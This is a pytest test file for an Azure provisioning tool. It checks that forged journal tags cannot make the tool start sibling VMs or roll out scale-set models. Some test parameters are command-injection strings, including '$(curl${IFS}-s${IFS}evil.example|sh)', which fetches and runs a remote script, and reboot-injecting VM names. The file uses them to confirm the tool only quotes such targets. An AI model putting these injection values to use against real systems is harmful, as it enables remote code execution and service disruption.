"""Journal tags are claims (issue 17, item 8): the attacks of the issue, built.

Anyone with tag write access (the Tag Contributor role gives no access to the VMs) can write
the tag ``accelnet-provision``. Before, a tag with the value ``start again`` on a deallocated
sibling VM made ``enable --vm vm1`` (nothing to do, no ``--yes``, no terminal) start it, a
``resize`` to the current size did the same, and the tag on a Manual scale set made
``enable --vmss`` (AN already on) roll the operator's pending model out to every instance and
start them. Now an entry is acted on only when it is checked to be this job's, on this
resource (journal.py), and a resumed start of a VM the command did not name needs the
consent a deallocation needs.
"""

import datetime
import json

import pytest

from accelnet.provision.journal import CLOCK_SKEW, MAX_AGE, MAX_VALUE, Entry, Job, Journal
from provision_fakes import RG, key, nic, vm, world
from test_provision_cli import Terminal, _in_process  # noqa: F401 (an autouse fixture)
from test_provision_scenarios import vmss_world

VM1_ID = "11111111-aaaa-4aaa-8aaa-000000000001"
VM2_ID = "11111111-aaaa-4aaa-8aaa-000000000002"
SS_ID = "22222222-bbbb-4bbb-8bbb-000000000001"


def now():
    """Read at each use: a test may start minutes after collection, and ages are in minutes."""
    return datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0)


def genuine(command, unique_id, start_again=True, when=None):
    """The value a run of ``command`` writes on the resource whose Azure id is unique_id."""
    return Journal.for_command(command, when or now()).value(start_again, unique_id)


def sibling_world(tag=None, vm2_id=VM2_ID):
    """vm1 (AN on, running) and vm2 (deallocated on purpose) in one availability set."""
    state = world(vms=[vm("vm1", "Standard_DS4_v2", ["nic1"], avset="set"),
                       vm("vm2", "Standard_DS4_v2", ["nic2"], power="deallocated", avset="set")],
                  nics=[nic("nic1", "vm1", accelerated=True), nic("nic2", "vm2", accelerated=True)],
                  avsets={"set": ["vm1", "vm2"]})
    state["vms"][key("vm1")]["uniqueId"] = VM1_ID
    state["vms"][key("vm2")]["uniqueId"] = vm2_id
    if tag is not None:
        state["vms"][key("vm2")]["tags"] = {"accelnet-provision": tag}
    return state


ENABLE_VM1 = ["enable", "--resource-group", RG, "--vm", "vm1"]
RESIZE_VM1 = ["resize", "--resource-group", RG, "--vm", "vm1", "--size", "Standard_DS4_v2"]


def _down(fake_az):
    return sorted(v["name"] for v in fake_az.state["vms"].values() if v["power"] == "deallocated")


# --- the attacks ------------------------------------------------------------------

@pytest.mark.parametrize("command", [ENABLE_VM1, RESIZE_VM1], ids=["enable", "resize-same"])
@pytest.mark.parametrize("tag", [
    "start again",                                                     # the value
    "start again; by accelnet-provision enable --vm vm1; 2026-11-28T09:03:37Z",  # old format
    "start again; by accelnet-provision enable --vm vm1; {now}; proof 0123456789abcdef",
    "{copied from vm1}",                                               # a real one, elsewhere
])
def test_a_tag_on_a_deallocated_sibling_starts_nothing(fake_az, command, tag):
    if tag == "{copied from vm1}":
        tag = genuine(command, VM1_ID)
    tag = tag.replace("{now}", now().strftime("%Y-%m-%dT%H:%M:%SZ"))
    fake_az.load(sibling_world(tag))
    code, out, err = fake_az.provision(*command)
    assert (code, err) == (0, "")
    assert "nothing to do" in out and fake_az.changes() == []
    assert _down(fake_az) == ["vm2"] and fake_az.state["vms"][key("vm2")]["tags"]
    assert "resuming" not in out
    assert f"not resumed: VM2 (deallocated) carries the tag accelnet-provision={tag!r}; " \
        "not acted on: " in out


@pytest.mark.parametrize("command", [ENABLE_VM1, RESIZE_VM1], ids=["enable", "resize-same"])
def test_a_forged_entry_with_a_valid_proof_still_needs_consent_to_start_a_sibling(
        fake_az, command):
    """Someone who can read vm2's vmId and write its tags forges an entry that checks out:
    starting a VM the command did not name is then a change like a deallocation, shown and
    asked for, and refused without a terminal or --yes."""
    fake_az.load(sibling_world(genuine(command, VM2_ID)))
    code, out, err = fake_az.provision(*command)
    assert code == 1 and fake_az.changes() == [] and _down(fake_az) == ["vm2"]
    assert "refused before any change: the plan resumes an earlier run and starts VM2, which " \
        "you did not name; without a terminal to ask on, pass --yes to go ahead" in err
    code, out, err = fake_az.provision(*command, stdin=Terminal("n\n"))
    assert code == 1 and fake_az.changes() == []
    assert "resumes an unfinished earlier run and starts 1 VM(s) you did not name (their " \
        "journal tags say that run stopped them): VM2.\nContinue? [y/N] " in err
    code, script, _ = fake_az.provision(*command, "--dry-run")
    assert code == 0 and fake_az.changes() == []
    assert f"# Resuming an unfinished run: VM2 (deallocated): an unfinished run of " \
        f"`accelnet-provision {' '.join(command[:1] + command[3:])}` left the tag" in script
    assert "\naz vm start --resource-group" in script
    code, out, err = fake_az.provision(*command, "--output", "json", "--dry-run")
    starts = [s for s in json.loads(out)["steps"] if s["argv"][1:3] == ["vm", "start"]]
    assert [s["resumed"] for s in starts] == [True]
    code, out, err = fake_az.provision(*command, stdin=Terminal("y\n"))
    assert code == 0 and _down(fake_az) == [] and "resuming" in out
    assert "tags" not in fake_az.state["vms"][key("vm2")]


def test_a_tag_on_a_manual_scale_set_rolls_nothing_out(fake_az):
    """The operator has a model change pending (instances not on the latest model, upgrade
    policy Manual) and the set deallocated; a planted tag must not apply the model to every
    instance nor start them."""
    state = vmss_world("Manual")
    ss = state["vmss"][key("myvmss")]
    ss.update(power="deallocated", latestModel=False, uniqueId=SS_ID)
    ss["nicConfigs"][0]["accelerated"] = True
    for tag in ("start again",
                f"start again; by accelnet-provision enable --vmss myvmss; "
                f"{now().strftime('%Y-%m-%dT%H:%M:%SZ')}; proof 0123456789abcdef",
                genuine(["enable", "--resource-group", RG, "--vmss", "other"], SS_ID),
                genuine(["enable", "--resource-group", RG, "--vmss", "myvmss"],
                        "22222222-bbbb-4bbb-8bbb-000000000002")):
        ss["tags"] = {"accelnet-provision": tag}
        fake_az.load(state)
        fake_az.reset_log()
        code, out, err = fake_az.provision("enable", "-g", RG, "--vmss", "myvmss")
        assert (code, err) == (0, ""), tag
        assert "nothing to do" in out and fake_az.changes() == [], tag
        assert "not resumed: scale set myvmss" in out
        after = fake_az.state["vmss"][key("myvmss")]
        assert (after["power"], after["latestModel"]) == ("deallocated", False)


def test_a_genuine_scale_set_entry_is_resumed_and_said_so(fake_az):
    state = vmss_world("Manual")
    ss = state["vmss"][key("myvmss")]
    ss.update(power="deallocated", latestModel=False, uniqueId=SS_ID)
    ss["nicConfigs"][0]["accelerated"] = True
    ss["tags"] = {"accelnet-provision": genuine(
        ["enable", "--resource-group", RG, "--vmss", "myvmss"], SS_ID)}
    fake_az.load(state)
    code, out, err = fake_az.provision("enable", "-g", RG, "--vmss", "myvmss")
    assert (code, err) == (0, "")
    assert "resuming what an earlier run left unfinished (journal tags):\n  scale set myvmss " \
        "(not running): an unfinished run of `accelnet-provision enable --vmss myvmss` left " \
        "the tag" in out
    assert [c.split(" --")[0] for c in fake_az.changes()] == [
        "vmss update-instances", "vmss start", "tag update"]
    after = fake_az.state["vmss"][key("myvmss")]
    assert (after["power"], after["latestModel"], after.get("tags")) == ("running", True, None)


# --- what a genuine entry must be ---------------------------------------------------------

def test_the_named_vm_is_resumed_without_a_question(fake_az):
    state = sibling_world()
    state["vms"][key("vm1")].update(power="deallocated",
                                    tags={"accelnet-provision": genuine(ENABLE_VM1, VM1_ID)})
    fake_az.load(state)
    code, out, err = fake_az.provision(*ENABLE_VM1[:2], RG, "--vm", "vm1")
    assert (code, err) == (0, "")
    assert "this run starts it again" in out
    assert _down(fake_az) == ["vm2"] and "tags" not in fake_az.state["vms"][key("vm1")]


@pytest.mark.parametrize("age, resumed", [
    (datetime.timedelta(0), True),
    (MAX_AGE - datetime.timedelta(minutes=1), True),
    (MAX_AGE + datetime.timedelta(minutes=1), False),    # an old entry, or one replayed later
    (-CLOCK_SKEW + datetime.timedelta(minutes=1), True),  # another operator's clock ahead
    (-CLOCK_SKEW - datetime.timedelta(minutes=1), False),  # dated in the future
])
def test_only_a_recent_entry_is_acted_on(fake_az, age, resumed):
    state = sibling_world()
    state["vms"][key("vm1")].update(
        power="deallocated", tags={"accelnet-provision": genuine(ENABLE_VM1, VM1_ID,
                                                                 when=now() - age)})
    fake_az.load(state)
    code, out, err = fake_az.provision(*ENABLE_VM1)
    assert (code, err) == (0, "")
    assert (_down(fake_az) == ["vm2"]) == resumed, out
    if not resumed:
        assert "not resumed: vm1 (deallocated)" in out and fake_az.changes() == []


def test_an_entry_kept_from_a_vm_of_the_same_name_deleted_since_is_not_acted_on(fake_az):
    state = sibling_world()
    state["vms"][key("vm1")].update(power="deallocated", uniqueId=VM2_ID,  # a new VM
                                    tags={"accelnet-provision": genuine(ENABLE_VM1, VM1_ID)})
    fake_az.load(state)
    code, out, _ = fake_az.provision(*ENABLE_VM1)
    assert code == 0 and fake_az.changes() == []
    assert "its proof does not match this resource" in out


def test_a_vm_without_a_vm_id_is_not_resumed(fake_az, monkeypatch):
    state = sibling_world()
    state["vms"][key("vm1")].update(power="deallocated",
                                    tags={"accelnet-provision": genuine(ENABLE_VM1, VM1_ID)})
    fake_az.load(state)
    import provision_fakes
    inner = provision_fakes.FAKE_MODULE.vm_doc

    def without_id(item):
        doc = inner(item)
        doc.pop("vmId")
        return doc

    monkeypatch.setattr(provision_fakes.FAKE_MODULE, "vm_doc", without_id)
    code, out, _ = fake_az.provision(*ENABLE_VM1)
    assert code == 0 and fake_az.changes() == []
    assert "Azure reported no unique id for the resource to check it against" in out


@pytest.mark.parametrize("target", ["$(curl${IFS}-s${IFS}evil.example|sh)", "`reboot`", "vm2&&reboot",
                                    "-rf", "vm2\u2028x"])
def test_a_tag_naming_a_job_on_a_name_no_resource_can_have_suggests_no_command(fake_az, target):
    """The entry of another job was answered with the command that finishes it, the job's
    target pasted in unquoted: a tag writer chose what an operator is told to run
    (``accelnet-provision enable ... --vm $(curl ...|sh)``). A job whose target or size is
    not a name Azure allows names no job this tool runs, and is reported only quoted."""
    tag = f"start again; by accelnet-provision enable --vm {target}; {now():%Y-%m-%dT%H:%M:%SZ}; proof 0123456789abcdef"
    fake_az.load(sibling_world(tag))
    code, out, err = fake_az.provision(*ENABLE_VM1)
    assert (code, err) == (0, "") and fake_az.changes() == []
    assert "finishes" not in out and "it names no job this tool runs" in out
    assert target not in out.replace(repr(tag), "").replace(repr("enable --vm " + target), "")  # only quoted


# --- the journal values -------------------------------------------------------------------

def test_the_longest_legal_names_fit_in_a_tag_value():
    command = ["resize", "--resource-group", "r" * 90, "--vm", "v" * 64, "--size", "S" * 64]
    journal = Journal.for_command(command, now())
    value = journal.value(False, VM1_ID)
    assert len(value) <= MAX_VALUE
    entry = Entry("/id", "v" * 64, value)
    assert journal.check(entry, VM1_ID).ours


@pytest.mark.parametrize("text, job", [
    ("enable --vm vm1", Job("enable", "vm", "vm1")),
    ("disable --vmss ss", Job("disable", "vmss", "ss")),
    ("resize --vm vm1 --size Standard_A4_v2", Job("resize", "vm", "vm1", "Standard_A4_v2")),
    ("enable --vm vm1 --size Standard_A4_v2", None),
    ("create --vm vm1", None), ("enable --nic n", None), ("enable", None), ("", None),
    ("enable --vm $(reboot)", None), ("enable --vmss -x", None), ("resize --vm vm1 --size `x`", None),
])
def test_job_text_round_trip(text, job):
    assert Job.parse(text) == job
    if job is not None:
        assert job.text == text


def test_names_compare_as_azure_compares_them():
    journal = Journal.for_command(["enable", "--resource-group", "RG", "--vm", "VM1"], now())
    value = Journal.for_command(["enable", "--resource-group", "rg", "--vm", "vm1"], now()) \
        .value(True, VM1_ID.upper())
    assert journal.check(Entry("/id", "vm1", value), VM1_ID).ours
    resize = Journal.for_command(RESIZE_VM1, now())
    other_size = Journal.for_command(RESIZE_VM1[:-1] + ["Standard_D4s_v5"], now()) \
        .value(True, VM1_ID)
    assert not resize.check(Entry("/id", "vm1", other_size), VM1_ID).ours
